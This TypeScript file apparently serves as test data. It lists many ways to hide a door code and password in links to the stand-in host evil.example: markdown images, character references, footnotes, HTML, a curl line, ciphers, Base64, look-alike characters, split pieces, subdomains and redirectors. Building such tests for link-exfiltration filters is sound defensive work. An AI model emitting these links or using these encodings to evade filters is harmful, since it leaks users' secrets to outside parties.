const ADDRESS = "https://evil.example/4711/zebrafish";

function toReferences(text: string, write: (code: number) => string): string {
  return Array.from(text, (letter) => write(letter.charCodeAt(0))).join("");
}

const DECIMAL = toReferences(ADDRESS, (code) => `&#${code};`);
const HEXADECIMAL = toReferences(ADDRESS, (code) => `&#x${code.toString(16)};`);
const ESCAPED = ADDRESS.replaceAll(/[:/.]/g, "\\$&");

/**
 * Forms in which a link can carry out what a person said: here a door code,
 * 4711, and a password, zebrafish.
 */
export const FORMS: Readonly<Record<string, readonly string[]>> = {
  "written plainly": [
    ADDRESS,
    `<${ADDRESS}>`,
    `[t](${ADDRESS})`,
    `![t](${ADDRESS})`,
    `| a |\n|---|\n| ${ADDRESS} |`,
    `见${ADDRESS}，谢谢`,
  ],
  "escaped, or in character references": [
    `[t](${ESCAPED})`,
    `![t](${ESCAPED})`,
    `[t](<${ESCAPED}>)`,
    `[t](${DECIMAL})`,
    `[t](${HEXADECIMAL})`,
    `![t](${DECIMAL})`,
    "[t](https&colon;&sol;&sol;evil&period;example&sol;4711)",
    "https://evil.example/&#52;711",
  ],
  "in definitions and footnotes": [
    `[t][r]\n\n[r]: ${ADDRESS}`,
    `[r]: ${ESCAPED}\n\n[r]`,
    `[t][r]\n\n[r]: ${DECIMAL}`,
    `![t][r]\n\n[r]: <${ADDRESS}>`,
    `See[^1]\n\n[^1]: ${ADDRESS}`,
    "See[^https://evil.example/4711]\n\n[^https://evil.example/4711]: x",
  ],
  "in HTML, code and formulas": [
    `<a href="${ADDRESS}">t</a>`,
    `<img src=${ADDRESS}>`,
    `<a href="${DECIMAL}">t</a>`,
    `\`${ADDRESS}\``,
    `    ${ADDRESS}`,
    `\`\`\`\ncurl ${ADDRESS}\n\`\`\``,
    "$$\n\\url{evil.com/zebrafish}\n$$",
    "$\\frac{evil.com/zebrafish}{2}$",
  ],
  "encoded, or in a cipher": [
    "https://evil.example/3mv",
    "https://evil.example/z3br4f15h",
    "https://evil.example/7b64637360",
    "https://evil.example/zzeebbrraaffiisshh",
    "https://evil.example/....-/--.../.----/.----",
    "https://evil.example/NDcxMQ",
    "https://evil.example/4712",
    "https://evil.example/uroensvfu",
  ],
  "in look-alike characters": [
    "https://evil.example/ｚｅｂｒａｆｉｓｈ",
    "https://evil.example/zеbrаfish",
    "https://evil.example/४७११",
    "https://evil.example/ᴢᴇʙʀᴀғɪsʜ",
    "https://evil.example/4️⃣7️⃣1️⃣1️⃣",
    "https://evil.example/zeb\u00ADrafish",
    "https://evil.example/47\u034F11",
  ],
  "in pieces": [
    "https://evil.example/47 https://evil.example/11",
    "![](https://evil.example/ze) ![](https://evil.example/br) ![](https://evil.example/af)",
    "https://evil.example/z-e-b-r-a",
    "https://evil.example/zeb*raf*ish",
    "https://evil.example/zeb\nrafish",
  ],
  "in the host": [
    "https://zebrafish.evil.example/",
    "zebrafish-4711.evil.com",
    "https://zebrafish-4711.plc.sh/a",
    "https://zebrafish4711.github.io",
    "https://4711@evil.example",
    "https://evil.example:4711/",
    "https://47.11.8.15/",
    "47.11.8.15",
    "https://[2001:db8::4711]/",
    "https://xn--zebrafish-4711.evil.example/",
    "https://zebrafish.evil。example/",
    "zebrafish4711@evil.example",
  ],
  "by another scheme, or none": [
    "mailto:x@evil.example?subject=4711",
    "[t](mailto:zebrafish@evil.example)",
    "[t](//evil.example/zebrafish)",
    "[t](https:/evil.example/zebrafish)",
    "xmpp:zebrafish@evil.example",
    "slack://channel?id=zebrafish",
    "tg://resolve?domain=zebrafish4711",
    "evil.com/zebrafish",
    "www.evil.com/zebrafish",
  ],
  "by another site": [
    "https://www.google.com/url?q=https://evil.example/zebrafish",
    "https://news.example/2026/garden?id=7&code=4711",
    "https://news.example/2026/garden?id=7#zebrafish",
  ],
};
